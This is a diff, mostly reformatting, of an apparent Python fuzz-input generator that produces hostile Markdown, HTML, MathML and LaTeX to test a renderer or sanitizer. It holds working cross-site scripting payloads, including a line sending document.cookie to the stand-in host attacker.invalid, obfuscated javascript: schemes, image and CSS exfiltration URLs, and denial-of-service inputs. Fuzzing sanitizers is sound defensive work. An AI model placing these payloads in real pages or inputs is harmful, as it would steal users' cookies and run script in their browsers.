@@ -9,8 +9,27 @@ from collections.abc import Callable
 N = 500
 AWAY = "http://attacker.invalid"
 RUN = "window.__ran=1;alert(1);fetch('http://attacker.invalid/'+document.cookie)"
-HANDLERS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onbeforeprint onpointerenter".split()
-SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "data:text/html,", "vbscript:", "file:///"]
+HANDLERS = [
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "onanimationstart",
+    "ontoggle",
+    "onbeforeprint",
+    "onpointerenter",
+]
+SCHEMES = [
+    "javascript:",
+    "JaVaScRiPt:",
+    "java\tscript:",
+    "java&#10;script:",
+    "&#106;avascript:",
+    "data:text/html,",
+    "vbscript:",
+    "file:///",
+]
 
 
 def script(dice: random.Random) -> str:
@@ -19,7 +38,10 @@ def script(dice: random.Random) -> str:
 
 
 def handler(dice: random.Random) -> str:
-    name, tag = dice.choice(HANDLERS), dice.choice(["img", "body", "details open", "video", "input autofocus", "iframe", "marquee"])
+    name, tag = (
+        dice.choice(HANDLERS),
+        dice.choice(["img", "body", "details open", "video", "input autofocus", "iframe", "marquee"]),
+    )
     quote = dice.choice(["", '"', "'", "`"])
     return f"<{tag} src=x {name}={quote}{RUN}{quote}>\n\nText <b {name}={quote}{RUN}{quote}>bold</b>"
 
@@ -42,8 +64,8 @@ def style(dice: random.Random) -> str:
     return dice.choice(
         [
             f"<style>@import '{AWAY}/x.css'; body{{background:url({AWAY}/b)}}</style>",
-            f"<div style=\"background:url({AWAY}/b);position:fixed;inset:0\">over all</div>",
-            f"<link rel=stylesheet href={AWAY}/x.css><base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}'>",
+            f'<div style="background:url({AWAY}/b);position:fixed;inset:0">over all</div>',
+            f"<link rel=stylesheet href={AWAY}/x><base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}'>",
             f"| a |\n|:-:|\n| <td style='background:url({AWAY}/c)'> |",
         ]
     )
@@ -51,12 +73,18 @@ def style(dice: random.Random) -> str:
 
 def address(dice: random.Random) -> str:
     url = dice.choice(SCHEMES) + dice.choice([RUN, f"<script>{RUN}</script>", base64.b64encode(RUN.encode()).decode()])
-    return dice.choice([f"[press]({url})", f"[press](<{url}>)", f"[press]: {url}\n\n[press]", f"<{url}>", f'<a href="{url}">press</a>'])
+    return dice.choice(
+        [f"[press]({url})", f"[press](<{url}>)", f"[press]: {url}\n\n[press]", f"<{url}>", f'<a href="{url}">press</a>']
+    )
 
 
 def picture(dice: random.Random) -> str:
-    url = dice.choice([f"{AWAY}/leak?q=secret", "//attacker.invalid/x", f"data:image/svg+xml,<svg onload='{RUN}'/>", "/api/logout"])
-    return dice.choice([f"![alt]({url})", f'![alt"onerror="{RUN}]({url})', f"[![alt]({url})]({url})", f'<img src="{url}">'])
+    url = dice.choice(
+        [f"{AWAY}/leak?q=secret", "//attacker.invalid/x", f"data:image/svg+xml,<svg onload='{RUN}'/>", "/api/logout"]
+    )
+    return dice.choice(
+        [f"![alt]({url})", f'![alt"onerror="{RUN}]({url})', f"[![alt]({url})]({url})", f'<img src="{url}">']
+    )
 
 
 def mathml(dice: random.Random) -> str:
@@ -65,7 +93,7 @@ def mathml(dice: random.Random) -> str:
             f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
             f"<math href='javascript:{RUN}'><maction actiontype='statusline#{AWAY}'>x</maction></math>",
             f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{{AWAY}}}$",
-            f"$\\includegraphics{{{AWAY}/x.png}}$ $\\htmlData{{x=1}}{{y}}$ $\\htmlStyle{{background:url({AWAY})}}{{z}}$",
+            f"$\\includegraphics{{{AWAY}/x.png}}$ $\\htmlData{{x=1}}{{y}}$ $\\htmlStyle{{color:url({AWAY})}}{{z}}$",
             r"$$\def\a{\a\a}\a$$ $\newcommand{\b}{\b\b}\b$",
             r"$\rule{9999999em}{9999999em}$ $$\Huge{" + r"\frac{1}{" * 60 + "x" + "}" * 60 + "}$$",
         ]
@@ -88,7 +116,14 @@ def mutation(dice: random.Random) -> str:
 
 def deep(dice: random.Random) -> str:
     n = dice.choice([200, 2_000, 6_000])
-    return dice.choice(["> " * n + "x", "".join("  " * (at % 200) + "- x\n" for at in range(n)), "[" * n + "x" + "](y)" * n, "*" * n + "a" + "*" * n])
+    return dice.choice(
+        [
+            "> " * n + "x",
+            "".join("  " * (at % 200) + "- x\n" for at in range(n)),
+            "[" * n + "x" + "](y)" * n,
+            "*" * n + "a" + "*" * n,
+        ]
+    )
 
 
 def huge(dice: random.Random) -> str:
@@ -109,7 +144,16 @@ def huge(dice: random.Random) -> str:
 
 
 def letters(dice: random.Random) -> str:
-    odd = ["\u202e", "\u0000", "\ufeff", "\u2028", "Z" + "\u0335\u0336" * 200, "\U000e0041" * 50, "\u200d" * 500, "﷽" * 200]
+    odd = [
+        "\u202e",
+        "\u0000",
+        "\ufeff",
+        "\u2028",
+        "Z" + "\u0335\u0336" * 200,
+        "\U000e0041" * 50,
+        "\u200d" * 500,
+        "﷽" * 200,
+    ]
     return "".join(dice.choices(odd, k=20)) + f"<img src=x onerror={RUN}>"
 
 
